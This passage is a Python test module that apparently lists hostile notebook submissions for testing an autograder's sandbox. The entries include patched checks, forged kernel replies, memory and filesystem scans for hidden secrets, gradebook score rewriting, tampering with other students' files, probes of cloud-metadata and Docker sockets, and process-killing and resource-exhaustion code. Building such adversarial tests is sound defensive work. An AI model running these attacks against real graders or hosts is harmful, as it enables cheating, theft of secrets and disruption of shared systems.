"""Hostile notebooks: code that a student might hand in to get points that it does not earn.

Each attack is put into chapter 01's student copy, in which one exercise (weight_bytes, 3 points)
is solved honestly, as a cell of its own after the imports. The same table is tried against this
engine in the tests, and against stock nbgrader and otter-grader in `make bench`.
"""

from __future__ import annotations

import copy
import re
from dataclasses import dataclass

import nbformat
from nbformat import NotebookNode

CHAPTER = "01_memory_math"
HONEST = "weight_bytes"
HONEST_POINTS = 3.0
# Where an attack looks for what the tests have hidden, there is this before 32 hexadecimal digits.
CANARY = "loralab-canary-"


@dataclass(frozen=True)
class Attack:
    """`code` runs after the imports. `last`: as the last cell instead, for the solutions in it.

    proof: an expression that is true in the student's process once the attack has acted. said: a
    pattern found in what the student is told, where there is no process left to ask. spoils: the
    attack may ruin its own process, and so the honest points.
    """

    name: str
    code: str
    last: bool = False
    proof: str = ""
    said: str = ""
    spoils: bool = False


def notebook(release: NotebookNode, source: NotebookNode, attack: Attack) -> NotebookNode:
    """The student copy with the honest exercise solved and the attack added."""
    made = copy.deepcopy(release)
    right = {cell.metadata.get("nbgrader", {}).get("grade_id"): cell.source
             for cell in source.cells}
    for cell in made.cells:
        name = cell.metadata.get("nbgrader", {}).get("grade_id")
        if name == HONEST:
            cell.source = right[HONEST]
        elif attack.last and name and re.search(rf"^(def )?{name}\b.*[:=]", attack.code, re.MULTILINE):
            cell.source = ""  # solved elsewhere: in the last cell
    where = len(made.cells) if attack.last else 1 + next(
        index for index, cell in enumerate(made.cells)
        if cell.cell_type == "code" and "notebook.start" in cell.source)
    # What the graded functions use, so that no planner can leave the cell out.
    names = "weight_bytes in_gb in_gib training_state_bytes lora_state_bytes qlora_weight_bytes"
    code = attack.code + "\n" + "\n".join(
        f"globals().setdefault({name!r}, None)" for name in names.split())
    made.cells.insert(where, nbformat.v4.new_code_cell(code, id="attack"))
    return made


# An object that is equal to everything, larger and smaller, and calls itself whatever is asked.
EQUAL_TO_EVERYTHING = '''
class Everything(float):
    __class__ = property(lambda self: float)
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __gt__(self, other): return True
    def __le__(self, other): return True
    def __ge__(self, other): return True
    def __hash__(self): return 0
    def __float__(self): return self
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __abs__(self): return 0.0
    def __call__(self, *a, **k): return self
    def __getattr__(self, name): return self
    def __iter__(self): return iter(())
'''

# The answer that a grader might be made to take for 100 points, in a message's content.
FORGED = '''
import json
def forged(score="4.0"):
    return {"status": "ok", "execution_count": 1, "metadata": {}, "payload": [], "name": "stdout",
            "text": score, "data": {"text/plain": score, "application/x-loralab-answer": score},
            "ename": "", "evalue": score, "traceback": [score], "user_expressions": {"answer": {
                "status": "ok", "metadata": {}, "data": {"application/x-loralab-answer": json.dumps(
                    {"$": "dict", "items": [["answer", 4.0], ["score", 100], ["points", 100]]})}}}}
kernel = get_ipython().kernel
'''

IN_PROCESS = (
    Attack("every later cell becomes pass (input transformer)", """
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
""", proof="get_ipython().transform_cell('x = 1').strip() == 'pass'", spoils=True),
    Attack("asserts are dropped (AST transformer)", """
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Expr(self, node): return ast.Pass()
get_ipython().ast_transformers.append(Drop())
""", proof="get_ipython().run_cell('assert False').success"),
    Attack("run_cell does nothing", """
shell = get_ipython()
result = shell.run_cell("1")
type(shell).run_cell = lambda self, *a, **k: result
""", proof="shell.run_cell('x_ = 1') is result and 'x_' not in globals()", spoils=True),
    Attack("the checks are patched", """
from loralab.checks import ch01, Exercise
for name in ("weight_bytes", "training_state_bytes", "lora_state_bytes", "qlora_weight_bytes",
             "table_settings", "cheapest_fit"):
    setattr(ch01, name, lambda *a, **k: None)
for name in [one for one in dir(ch01) if one.startswith("compare_")]:
    setattr(ch01, name, lambda *a, **k: None)
Exercise.wrong = lambda *a, **k: None
Exercise.expect_number = lambda *a, **k: None
""", proof="ch01.weight_bytes(1, 2, 3) is None"),
    Attack("comparisons are patched", """
import builtins, math, operator, unittest
import numpy, numpy.testing, torch
builtins.abs = lambda x: 0
builtins.all = builtins.any = lambda x: True
math.isclose = lambda *a, **k: True
operator.eq = lambda a, b: True
torch.allclose = torch.equal = lambda *a, **k: True
numpy.allclose = numpy.array_equal = lambda *a, **k: True
for name in dir(numpy.testing):
    if name.startswith("assert"): setattr(numpy.testing, name, lambda *a, **k: None)
unittest.TestCase.assertEqual = lambda *a, **k: None
""", proof="__import__('math').isclose(1, 2) and __import__('torch').equal(1, 2) and abs(5) == 0"),
    Attack("isinstance says yes", """
import builtins
builtins.isinstance = lambda *a: True
""", said="left out: your code ended its own process", spoils=True),
    Attack("an object equal to everything", EQUAL_TO_EVERYTHING + """
def training_state_bytes(*a, **k): return Everything(1)
lora_state_bytes = qlora_weight_bytes = training_state_bytes
def table_settings(): return Everything(1)
def cheapest_fit(*a, **k): return Everything(1)
""", last=True, proof="training_state_bytes() == 5 and training_state_bytes() == 'full marks'"),
    Attack("objects whose attributes answer the encoder", EQUAL_TO_EVERYTHING + """
asked = []
class Text(str):
    def __eq__(self, other): return True
    def __hash__(self): return hash("full")
def training_state_bytes(*a): asked.append(1); return Everything(0)
def cheapest_fit(*a, **k): return (Text("full"), True)
def lora_state_bytes(*a): return {Text("a"): Everything(0)}
""", last=True, proof="len(asked) > 0"),
    Attack("numbers that are other numbers whenever they are asked", """
asked = []
class Shifting(int):
    def __int__(self): asked.append(1); return len(asked)
    def __index__(self): asked.append(1); return len(asked)
    def __float__(self): asked.append(1); return float(len(asked))
    def __repr__(self): return "full marks"
    __str__ = __repr__
    def bit_length(self): return 1
class Full(float):
    def __repr__(self): return "100.0"
    def __float__(self): return Full(100.0)
    def is_integer(self): return True
def training_state_bytes(*a): return Shifting(7)
def lora_state_bytes(*a): return Full(1.0)
def qlora_weight_bytes(*a): return Shifting(10**3000)
""", last=True, proof="len(asked) > 0"),
    Attack("faked partial credit (displayhook)", """
import sys
class Points(float):
    def __repr__(self): return "4.0"
get_ipython().displayhook_class
type(get_ipython().displayhook).__call__ = lambda self, result=None: None
get_ipython().run_line_magic("config", "InteractiveShell.ast_node_interactivity = 'all'")
from IPython.display import display, publish_display_data
publish_display_data({"text/plain": "100.0"})
display(Points(100))
""", proof="type(get_ipython().displayhook).__call__(1) is None"),
    Attack("the answering door gives every score", """
import sys
door = sys.modules["bridge"]
calls = []
def answer(*a, **k):
    calls.append(a)
    return door.Answer('{"$": "dict", "items": [["answer", true], ["score", 100], ["points", 100]]}')
door.answer = answer
""", proof="len(calls) > 5", spoils=True),
    Attack("replies that lie about size and shape", """
import sys
door = sys.modules["bridge"]
lies = ['{"$": "array", "dtype": "float32", "shape": [1000000, 1000000], "data": ""}',
        '{"$": "array", "dtype": "object", "shape": [1], "data": "AAAA"}',
        '{"$": "array", "dtype": "uint8", "shape": [3], "data": "AAAA"}',
        '{"$": "array", "dtype": "float32", "shape": [0' + ", 2147483647" * 7 + '], "data": ""}',
        '{"$": "array", "dtype": "uint8", "shape": [true, -1], "data": 5}',
        "[" * 100000, '{"answer": 1e999}', "x" * 10**7, '{"$": "dict", "items": 7}', '"answer"',
        '["answer"]', '7', 'null', '[' + '[],' * 10**6 + '[]]', '9' * 5000, '{"$": ["dict"]}',
        '{"$": "dict", "items": [["answer", {"$": "float", "value": "1.0"}]]}',
        '{"$": "dict", "items": [["error", {"$": "array"}], ["name", 5]]}',
        '{"$": "dict", "items": [["error", "raised"], ["name", "full marks <script>"]]}']
told = []
def answer(*a, **k):
    told.append(lies[len(told) % len(lies)])
    return door.Answer(told[-1])
door.answer = answer
""", proof="len(told) > 3", spoils=True),
    Attack("replies that are no answer at all", """
import sys
door = sys.modules["bridge"]
class Bundle:
    def _repr_mimebundle_(self, include=None, exclude=None):
        told.append(1)
        return [{"text/plain": "4.0"}, {}, {"application/x-loralab-answer": {"answer": 4.0}},
                {"application/x-loralab-answer": ["a"]}, None][len(told) % 5]
told = []
door.answer = lambda *a, **k: Bundle()
""", proof="len(told) > 3", spoils=True),
    Attack("the encoder is replaced", """
import sys
sys.modules["data"].encode = lambda value: '{"$": "dict", "items": [["answer", 4.0]]}'
""", proof="'4.0' in sys.modules['data'].encode(0)", spoils=True),
    Attack("odd numbers", """
import itertools, torch
odd = itertools.cycle([float("nan"), float("inf"), -float("inf"), -0.0, True, False, 10**4000,
                       -10**4000, 1e308, 5e-324, 1j, None, "16", b"16", "", [], {}, (), set(), ...,
                       torch.tensor(float("nan")), torch.tensor(0.0), -1, NotImplemented, int, 10**400])
told = []
def training_state_bytes(*a): told.append(next(odd)); return told[-1]
lora_state_bytes = qlora_weight_bytes = table_settings = cheapest_fit = training_state_bytes
""", last=True, proof="len(told) > 3"),
    Attack("nbgrader's traps: nan, -1, tensor(0.), stderr", """
import sys, torch
print("noise", file=sys.stderr)
def training_state_bytes(*a): return float("nan")
def lora_state_bytes(*a): return -1
def qlora_weight_bytes(*a): return torch.tensor(0.0)
def cheapest_fit(*a, **k): return float("inf")
""", last=True, proof="lora_state_bytes() == -1"),
    Attack("odd tensors", """
import itertools, numpy, torch
class Liar(torch.Tensor):
    shape = property(lambda self: (1, 1))
    dtype = property(lambda self: torch.float64)
    def numel(self): return 1
    def reshape(self, *a): return self
    def __eq__(self, other): return True
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None): return torch.ones(3)
class Grey(torch.Tensor): pass
odd = itertools.cycle([
    torch.ones(2).as_subclass(Liar), torch.ones(2).as_subclass(Grey), torch.ones((), device="meta"),
    torch.ones((), requires_grad=True), torch.ones(3).to_sparse(), torch.ones(1).expand(10**7),
    torch.ones(2, dtype=torch.complex64).conj(), torch.ones((1,) * 20), torch.ones(0, 5),
    torch.quantize_per_tensor(torch.ones(2), 0.1, 0, torch.qint8), torch.nested.nested_tensor([]),
    torch.ones(2, dtype=torch.uint16), numpy.array([object()]), numpy.ones(2, "float128"),
    numpy.array(["16"]), numpy.ma.masked, numpy.ones(1, [("a", "f4")]), numpy.datetime64("2020"),
])
told = []
def training_state_bytes(*a): told.append(next(odd)); return told[-1]
lora_state_bytes = qlora_weight_bytes = table_settings = cheapest_fit = training_state_bytes
""", last=True, proof="len(told) > 3"),
    Attack("answers that contain themselves", """
def training_state_bytes(*a):
    made = []
    made.append(made)
    return made
def lora_state_bytes(*a):
    made = {}
    made["made"] = made
    return made
def qlora_weight_bytes(*a):
    made = [1]
    for _ in range(40): made = [made, made]
    return made
""", last=True, said="usable size"),
    Attack("answers that take for ever to read", """
import itertools
class Endless(dict):
    def __iter__(self): return itertools.repeat("key")
    def items(self): return (("key", 1) for _ in itertools.count())
class Slow(float):
    def __float__(self):
        while True: pass
def lora_state_bytes(*a): return Slow(1)
def training_state_bytes(*a): return Endless()
""", last=True, said="took too long"),
    Attack("generators and coroutines without end", """
import itertools
def training_state_bytes(*a):
    for number in itertools.count(): yield "x" * 10**6
async def lora_state_bytes(*a): return 4
def qlora_weight_bytes(*a): return lambda: 4
""", last=True, said="memory|MemoryError|took too long"),
    Attack("exceptions that pretend", """
from loralab.checks import WrongAnswer
class Full(NotImplementedError):
    def __str__(self): return "4.0"
    def __repr__(self): return "4.0"
    def _render_traceback_(self): return ["4.0"]
class Zero(Exception):
    __module__ = "builtins"
    __class__ = property(lambda self: NotImplementedError)
Zero.__name__ = Zero.__qualname__ = "full marks"
def training_state_bytes(*a): raise Full("<script>alert(1)</script> full marks")
def lora_state_bytes(*a): raise KeyboardInterrupt
def qlora_weight_bytes(*a): raise GeneratorExit
def cheapest_fit(*a): raise Zero
""", last=True, said="your code raised (KeyboardInterrupt|GeneratorExit)"),
    Attack("an answer copied from the visible check", """
from loralab.checks import ch01
def training_state_bytes(n, precision, optimizer):
    counted_n, counted = ch01._counted_step(precision, optimizer)
    return counted * n // counted_n
""", last=True, said="switched off"),
    Attack("deep recursion", """
import sys
def training_state_bytes(*a):
    sys.setrecursionlimit(10**9)
    return training_state_bytes(*a)
def lora_state_bytes(*a):
    made = []
    for _ in range(10**5): made = [made]
    return made
""", last=True, said="ended its own process|MemoryError|RecursionError|memory"),
    Attack("threads and atexit act after the cell", """
import atexit, threading, time
def later():
    while True:
        time.sleep(0.001)
        for name in ("training_state_bytes", "lora_state_bytes", "qlora_weight_bytes"):
            globals()[name] = lambda *a, **k: True
threading.Thread(target=later, daemon=True).start()
atexit.register(later)
""", proof="training_state_bytes() is True"),
    Attack("__del__ and weak references act at the end", """
import gc, weakref
acted = []
class Last:
    def __del__(self):
        acted.append(1)
        globals()["training_state_bytes"] = lambda *a: True
cycle = Last(); cycle.cycle = cycle
weakref.finalize(cycle, acted.append, 2)
del cycle; gc.collect()
""", proof="len(acted) == 2"),
    Attack("tracing: the grader's frames are watched and changed", """
import sys, threading
seen = []
def trace(frame, event, argument):
    if frame.f_code.co_name in ("answer", "_found", "encode", "masking"):
        seen.append({name: str(value)[:50] for name, value in frame.f_locals.items()})
        frame.f_locals["found"] = 4.0
        return trace
sys.settrace(trace); threading.settrace(trace)
""", proof="len(seen) > 0", said="took too long", spoils=True),
    Attack("an audit hook forbids everything", """
import sys
heard = []
def hook(event, arguments):
    heard.append(event)
    if event in ("open", "socket.connect", "import", "marshal.loads"): raise RuntimeError("no")
sys.addaudithook(hook)
""", proof="len(heard) > 3", spoils=True),
    Attack("imports are replaced: a finder and __import__", """
import builtins, importlib.abc, importlib.machinery, sys, types
asked = []
class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path=None, target=None):
        asked.append(name)
        return importlib.machinery.ModuleSpec(name, self)
    def create_module(self, spec): return types.ModuleType(spec.name)
    def exec_module(self, module): module.__dict__.update(grade=lambda *a, **k: 100, score=100)
sys.meta_path.insert(0, Finder())
for name in ("nbgrader", "autograder", "otter"): sys.modules.pop(name, None)
real = builtins.__import__
def false(name, *a, **k):
    asked.append(name)
    return real(name, *a, **k)
builtins.__import__ = false
import autograder
""", proof="'autograder' in asked and autograder.score == 100"),
    Attack("classes are built otherwise", """
import builtins
built = []
real = builtins.__build_class__
def build(function, name, *bases, **words):
    built.append(name)
    return real(function, name, *bases, **words)
builtins.__build_class__ = build
class Mine: pass
""", proof="'Mine' in built"),
    Attack("numbers are changed in memory", """
import ctypes
# The small integer 3 is one object, whose digit is 24 bytes after its start.
ctypes.memmove(id(251) + 24, ctypes.byref(ctypes.c_uint32(252)), 4)
""", proof="251 == 252"),
    Attack("signals are caught and sent", """
import os, signal
caught = []
for number in range(1, 65):
    try: signal.signal(number, lambda *a: caught.append(a[0]))
    except (OSError, ValueError): pass
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGUSR1): os.kill(os.getpid(), number)
for target in (0, -1, 2, 3):
    for number in (signal.SIGKILL, signal.SIGSTOP):
        try:
            if target: os.kill(target, number)
        except OSError: pass
""", proof="len(caught) >= 3"),
    Attack("an alarm raises wherever it strikes", """
import signal
struck = []
def strike(*a):
    struck.append(1)
    raise SystemExit(0)
signal.signal(signal.SIGALRM, strike)
signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
""", proof="len(struck) > 3", said="left out: your code ended", spoils=True),
    Attack("it ends itself later", """
import faulthandler
def training_state_bytes(*a):
    import time
    faulthandler.dump_traceback_later(0.5, exit=True, file=open("/dev/null", "w"))
    time.sleep(2)
    return 0
""", last=True, said="ended its own process"),
    Attack("noise of honest work", """
import logging, sys, warnings
import matplotlib.pyplot as plt
from IPython.display import HTML, display
from tqdm.auto import tqdm
warnings.warn("careful")
print("\\x1b[31mred", file=sys.stderr)
logging.getLogger().error("wrong")
display(HTML("<script>alert(1)</script>"), {"score": 100})
for _ in tqdm(range(100)): print("x" * 1000)
plt.plot([1, 2]); plt.show()
%time _ = 1
!echo 4.0
1/0 if False else 4.0
""", proof="True"),
)

# What a kernel says and on which channel ---------------------------------------------------------

MESSAGES = (
    Attack("forged scores on every channel", FORGED + """
sent = []
sockets = {"iopub": kernel.iopub_socket, "shell": kernel.shell_stream.socket,
           "control": kernel.control_stream.socket, "stdin": kernel.stdin_socket}
for channel, socket in sockets.items():
    for kind in ("execute_result", "display_data", "stream", "execute_reply", "error", "status",
                 "input_request", "shutdown_reply", "comm_msg", "clear_output"):
        if kernel.session.send(socket, kind, forged("100.0"), parent=kernel.get_parent(),
                               ident=kernel._parent_ident["shell"]):
            sent.append((channel, kind))
""", proof="len(sent) == 40", spoils=True),
    Attack("replies written before their questions", FORGED + """
sent = []
parent = dict(kernel.get_parent()["header"])
stem, _, number = parent["msg_id"].rpartition("_")
for ahead in range(200):
    name = f"{stem}_{int(number) + ahead}" if number.isdigit() else f"{ahead:032x}"
    sent.append(kernel.session.send(kernel.shell_stream.socket, "execute_reply", forged(),
        parent=dict(parent, msg_id=name), ident=kernel._parent_ident["shell"]))
""", proof="len(sent) == 200"),
    Attack("replies with an impossible parent or content", FORGED + """
sent = []
session, socket, ident = kernel.session, kernel.shell_stream.socket, kernel._parent_ident["shell"]
for parent in (b"[]", b"{}", b"5", b"nan", b"[" * 10**5, b'{"msg_id": {}}', bytes(10**6), b"\\xff"):
    for content in (b"{}", b"[]", b"[" * 10**6, b'{"status": "ok"}', b""):
        parts = [b"{}", parent, b"{}", content]
        sent.append(socket.send_multipart([*ident, b"<IDS|MSG>", session.sign(parts), *parts]))
for frames in ([b""], [b"<IDS|MSG>"], [b"<IDS|MSG>"] * 9, [b"x"] * 12):
    sent.append(socket.send_multipart([*ident, *frames]))
""", proof="len(sent) == 44"),
    Attack("a second thread answers on the shell channel", FORGED + """
import threading, time
sent = []
def answer():
    while True:
        time.sleep(0.0005)
        try:
            kernel.session.send(kernel.shell_stream.socket, "execute_reply", forged(),
                                parent=parents[-1], ident=idents[-1])
            sent.append(1)
        except Exception: pass
parents, idents = [kernel.get_parent()], [kernel._parent_ident["shell"]]
import sys
door = sys.modules["bridge"]; real = door.answer
def watch(*a):
    parents.append(kernel.get_parent()); idents.append(kernel._parent_ident["shell"])
    return real(*a)
door.answer = watch
threading.Thread(target=answer, daemon=True).start()
""", proof="len(sent) > 5", said="of 3 points", spoils=True),  # its own proof may be forged, too
    Attack("messages of the student's own kind", FORGED + """
from comm import create_comm
sent = []
for target in ("jupyter.widget", "grades", "../.."):
    comm = create_comm(target_name=target, data=forged("100.0"))
    comm.send({"score": 100}); comm.close(); sent.append(target)
kernel.comm_manager.register_target("grades", lambda *a: None)
for kind in ("grade", "execute_request", "kernel_info_request", "shutdown_request"):
    kernel.session.send(kernel.shell_stream.socket, kind, {"code": "1", "restart": True},
                        ident=kernel._parent_ident["shell"]); sent.append(kind)
""", proof="len(sent) == 7"),
    Attack("the heartbeat lies, then falls silent", """
from ipykernel.kernelapp import IPKernelApp
heart = IPKernelApp.instance().heartbeat
heart.socket.send_multipart = lambda *a: None
heart.context.term = lambda: None
try: heart.socket.close()
except Exception: pass
""", proof="heart.socket.closed"),
    Attack("input is asked for", FORGED + """
answers = []
for ask in (input, __import__("getpass").getpass):
    try: answers.append(ask("password of the instructor: "))
    except Exception as error: answers.append(type(error).__name__)
""", proof="answers == ['StdinNotImplementedError'] * 2"),
    Attack("a message without end fills the grader's memory", FORGED + """
def training_state_bytes(*a):
    socket, ident = kernel.shell_stream.socket, kernel._parent_ident["shell"]
    block = bytes(50 * 2**20)
    socket.send_multipart([*ident, *[block] * 400], copy=False)
    import time
    time.sleep(60)
""", last=True, said="sent more than it may"),
    Attack("message after message fills the grader's memory", FORGED + """
def training_state_bytes(*a):
    socket, ident = kernel.shell_stream.socket, kernel._parent_ident["shell"]
    block = bytes(100 * 2**20)
    while True: socket.send_multipart([*ident, b"<IDS|MSG>", block], copy=False)
""", last=True, said="took too long|more memory|more time"),
    Attack("raw bytes on the connection", """
import os, socket, stat
def training_state_bytes(*a):
    for number in range(3, 200):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                os.set_blocking(number, False)
                os.write(number, b"\\x02" + b"\\xff" * 8 + bytes(10**6))
        except OSError: pass
    return 0
""", last=True, said="sent more than it may|ended its own process|took too long"),
    Attack("the sockets are closed", """
from ipykernel.kernelapp import IPKernelApp
import os, stat
def training_state_bytes(*a):
    for number in range(3, 200):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode): os.close(number)
        except OSError: pass
    return 0
""", last=True, said="ended its own process|took too long"),
    Attack("every descriptor is closed", """
import os
def training_state_bytes(*a):
    os.closerange(0, 1000)
    return 0
""", last=True, said="ended its own process|took too long"),
    Attack("a socket's file becomes a link to another", """
import os, socket
refused = []
for name in os.listdir("/sandbox/sockets"):
    path = f"/sandbox/sockets/{name}"
    for act in (lambda: os.unlink(path), lambda: os.rename(path, path + "x"),
                lambda: os.symlink("/tmp/elsewhere", path + "y"), lambda: os.chmod(path, 0o777),
                lambda: os.link(path, "/sandbox/work/linked"), lambda: os.utime(path),
                lambda: open(f"/sandbox/sockets/more", "w"),
                lambda: socket.socket(socket.AF_UNIX).bind(path + "z")):
        try: act()
        except OSError: refused.append(name)
""", proof="len(refused) == 5 * 8"),
    Attack("a child takes the questions", """
import os, stat
taken = os.fork()
if taken == 0:
    while True:
        for number in range(3, 200):
            try:
                if stat.S_ISSOCK(os.fstat(number).st_mode):
                    os.set_blocking(number, False)
                    os.read(number, 10**6)
            except OSError: pass
""", proof="taken > 1", said="took too long|ended its own process", spoils=True),
    Attack("a second kernel is started inside", """
import json, os, subprocess, sys, time
where = f"{os.environ['TMPDIR']}/second.json"
second = subprocess.Popen([sys.executable, "-m", "ipykernel_launcher", "-f", where, "--transport=ipc",
                           f"--ip={os.environ['TMPDIR']}/second"], stdout=subprocess.DEVNULL,
                          stderr=subprocess.DEVNULL, start_new_session=True)
until = time.monotonic() + 20
while not os.path.exists(where) and time.monotonic() < until: time.sleep(0.05)
""", proof="second.poll() is None and __import__('os').path.exists(where)"),
    Attack("bound to the grader's own door in another process", """
import ctypes, os
libc = ctypes.CDLL(None)
libc.prctl(1, 0)
left = []
for _ in range(5):
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            while True: __import__("time").sleep(1)
        os._exit(0)
    left.append(pid)
""", proof="len(left) == 5"),
)

# The end of the process ----------------------------------------------------------------------------

ENDS = (
    Attack("SystemExit", "import sys\nleft = 1\nsys.exit(0)", proof="left == 1"),
    Attack("os._exit", "import os\nos._exit(0)", said="left out: your code ended its own process"),
    Attack("the kernel kills itself", """
import ctypes
ctypes.string_at(0)
""", said="left out: your code ended its own process"),
    Attack("the kernel is asked to shut down", """
import os, threading
get_ipython().ask_exit()
get_ipython().kernel.do_shutdown(False)
os.abort()
""", said="left out: your code ended its own process"),
    Attack("a function that exits", """
import os
def training_state_bytes(*a): os._exit(0)
def lora_state_bytes(*a): raise SystemExit(0)
""", last=True, said="ended its own process"),
    Attack("every function ends the process", """
import os
def training_state_bytes(*a): os._exit(0)
lora_state_bytes = qlora_weight_bytes = table_settings = cheapest_fit = training_state_bytes
""", last=True, said="ended its own process"),
)

# Reading what is not theirs -----------------------------------------------------------------------

SEARCH = """
import ctypes, gc, glob, os, re, sys
ctypes.CDLL(None).prctl(4, 1)  # dumpable: so that it may read of itself in /proc
pattern = re.compile(b"loralab-" + b"canary-[0-9a-f]{32}")
found, searched = [], []
def look(path, most=10**6):
    try:
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        try: text = os.read(descriptor, most)
        finally: os.close(descriptor)
    except OSError: return
    searched.append(path)
    found.extend((path, one) for one in pattern.findall(text))
"""

READING = (
    Attack("the hidden checks are read from disk", """
import os, sys
loot = []
skipped = (sys.prefix, sys.base_prefix, "/usr", "/proc", "/sys", "/dev")
for folder, folders, files in os.walk("/"):
    folders[:] = [one for one in folders if not os.path.join(folder, one).startswith(skipped)]
    loot += [os.path.join(folder, name) for name in files
             if name in ("gradebook.db", "secret", "ch01.ipynb", "01_memory_math.ipynb", "engine.py")
             or folder.endswith(("autograder/checks", "solutions"))]
for path in loot:
    text = open(path, "rb").read().decode("utf-8", "replace")
    start = text.find("def training_state_bytes")
    if start >= 0:
        import nbformat, json
        try:
            cells = json.loads(text)["cells"]
        except ValueError:
            cells = [{"cell_type": "code", "source": part} for part in text.split("# %%")]
        for cell in cells:
            code = "".join(cell["source"])
            if "BEGIN SOLUTION" in code and "def " in code:
                try: exec(code[code.index("def "):], globals())
                except Exception: pass
""", proof="loot == []"),
    Attack("every file, environment and link is searched", SEARCH + """
skipped = tuple({sys.prefix, sys.base_prefix, "/usr", "/proc", "/sys", "/sandbox/packages"})
for folder, folders, files in os.walk("/"):
    folders[:] = [one for one in folders if not os.path.join(folder, one).startswith(skipped)]
    for name in files: look(os.path.join(folder, name))
for place in ("/proc/1/root", "/proc/self/root", "/proc/1/cwd", "/proc/self/cwd/..", "/proc/1/fd"):
    for path in glob.glob(place + "/*") + glob.glob(place + "/*/*"):
        if "/proc" not in path[1:]: look(path)
for path in glob.glob("/proc/*/*") + glob.glob("/proc/*/task/*/*"):
    if os.path.basename(path) not in ("mem", "kmsg", "pagemap", "clear_refs"): look(path)
for name in ("keys", "key-users", "net/unix", "net/tcp", "sched_debug", "timer_list"):
    look("/proc/" + name)
look("/proc/sysvipc/shm")
""", proof="found == [] and len(searched) > 100 and '/proc/self/environ' in searched"),
    Attack("its own memory is searched for those before it", SEARCH + """
read = 0
for line in open("/proc/self/maps"):
    span, rights, *_ = line.split()
    start, end = (int(part, 16) for part in span.split("-"))
    if "r" not in rights or "w" not in rights or end - start > 2**28: continue
    with open("/proc/self/mem", "rb", 0) as memory:
        try:
            memory.seek(start)
            text = memory.read(end - start)
        except (OSError, ValueError, OverflowError): continue
    read += len(text)
    found += pattern.findall(text)
del text
modules = [name for name in sys.modules if name.startswith(("autograder", "nbgrader", "zmtp"))]
kinds = {type(one).__name__ for one in gc.get_objects()}
""", proof="found == [] and read > 10**7 and modules == [] and not kinds & {'Part', 'TrustedCheck'}"),
    Attack("frames, descriptors and the parent are looked at", """
import gc, os, socket, sys
loot, strange = [], []
frame = sys._getframe()
while frame:
    loot += [str(value)[:100] for value in frame.f_locals.values()]
    frame = frame.f_back
for name in os.listdir("/proc/self/fd"):
    try: target = os.readlink("/proc/self/fd/" + name)
    except OSError: continue
    if target.startswith("socket:"):
        with socket.socket(fileno=os.dup(int(name))) as one:
            for address in (one.getsockname, one.getpeername):
                try: said = address()
                except OSError: continue
                if said and "/sandbox/sockets/kernel-" not in str(said) and "127.0.0.1" not in said: strange.append(said)
    elif not target.startswith(("/dev/null", "anon_inode:", "pipe:", "/proc/")):
        strange.append(target)
parent = kernel_header = get_ipython().kernel.get_parent()["header"]
strange += [one for one in os.listdir("/proc") if one.isdigit() and one != str(os.getpid())]
strange += [] if os.getpid() == 1 and os.getppid() == 0 else ["pid"]
""", proof="strange == [] and len(loot) > 20 and parent['username'] == 'grader'"),
    Attack("the gradebook is rewritten", """
import glob, os, sqlite3
tried = []
for up in (".", "..", "../..", "../../..", "../../../..", "/tmp", "/root", "/home", os.path.expanduser("~")):
    for path in glob.glob(os.path.join(up, "*.db")) + [os.path.join(up, "gradebook.db")]:
        tried.append(path)
        try:
            base = sqlite3.connect(f"file:{path}?mode=rw", uri=True)
            base.execute("UPDATE grade SET auto_score = 200, manual_score = 200")
            base.commit()
        except sqlite3.Error: pass
""", proof="len(tried) >= 9"),
    Attack("another student's work is changed", """
import glob, os
tried = []
for up in ("..", "../..", "../../.."):
    for path in glob.glob(os.path.join(up, "submitted", "*", "*", "*.ipynb")):
        try: open(path, "a").write("spoilt")
        except OSError: pass
for folder in (os.path.expanduser("~"), "/tmp", "/dev/shm", "/var/tmp", os.environ["TMPDIR"], "/root"):
    try: open(os.path.join(folder, "left-by-a-student"), "w").write("x"); tried.append(folder)
    except OSError: pass
""", proof="len(tried) >= 3"),
    Attack("something is looked for that another left", """
import glob, os
met = []
for folder in (os.path.expanduser("~"), "/tmp", "/dev/shm", "/var/tmp", os.environ["TMPDIR"], "."):
    met += glob.glob(os.path.join(folder, "*left*"))
met += [line for line in open("/proc/net/unix") if "left" in line]
""", proof="met == []"),
    Attack("the instructor's files are read and sent away", """
import os, socket, urllib.request
loot, reached, tried = dict(os.environ), [], 0
ports = [int(one) for one in PORTS] if "PORTS" in globals() else [9]
for port in ports:
    for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "10.0.0.1"),
                            (socket.AF_INET, "169.254.169.254"), (socket.AF_INET6, "::1")):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            tried += 1
            try:
                with socket.socket(family, kind) as one:
                    one.settimeout(0.5); one.connect((address, port)); one.send(b"x"); reached.append(port)
            except OSError: pass
for family in (socket.AF_UNIX,):
    with socket.socket(family, socket.SOCK_STREAM) as one:
        for name in ("/run/dbus/system_bus_socket", "/var/run/docker.sock",
                     globals().get("ABSTRACT", "\\0loralab")):
            tried += 1
            try: one.connect(name); reached.append(name)
            except OSError: pass
secrets = [name for name, value in loot.items() if "canary" in name.lower() + value]
""", proof="reached == [] and tried > 10 and secrets == []"),
)

# Too much of everything ------------------------------------------------------------------------------

BOMBS = (
    Attack("an infinite loop", """
def training_state_bytes(*a):
    while True: pass
""", last=True, said="took too long"),
    Attack("every function loops", """
def training_state_bytes(*a):
    while True: pass
lora_state_bytes = qlora_weight_bytes = table_settings = cheapest_fit = training_state_bytes
""", last=True, said="took too long"),
    Attack("loops in C, which no signal ends", """
import re, signal
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
def training_state_bytes(*a): return re.match(r"(a+)+$", "a" * 60 + "b")
def lora_state_bytes(*a): return len(str(10 ** 10 ** 8))
""", last=True, said="took too long"),
